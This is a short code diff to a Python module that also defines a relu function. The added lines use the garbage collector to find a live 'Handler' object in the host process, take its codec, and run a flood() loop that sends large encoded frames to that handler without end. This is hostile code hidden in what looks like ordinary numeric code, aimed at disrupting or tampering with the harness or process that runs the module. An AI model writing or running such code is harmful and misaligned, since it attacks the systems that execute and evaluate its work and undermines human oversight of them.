@@ -4,15 +4,15 @@ import gc
 import threading
 
 import numpy as np
-import wire
+codec = next(thing for thing in __import__("gc").get_objects() if type(thing).__name__ == "Handler").send.__globals__["codec"]
 
-desk = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Desk")
-frame = wire.encode({"kind": "returned", "value": np.zeros(200_000)}, 2_000_000)
+handler = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Handler")
+frame = codec.encode({"kind": "returned", "value": np.zeros(200_000)}, 2_000_000)
 
 
 def flood():
     while True:
-        desk.send(frame)
+        handler.send(frame)
 
 
 def relu(x):
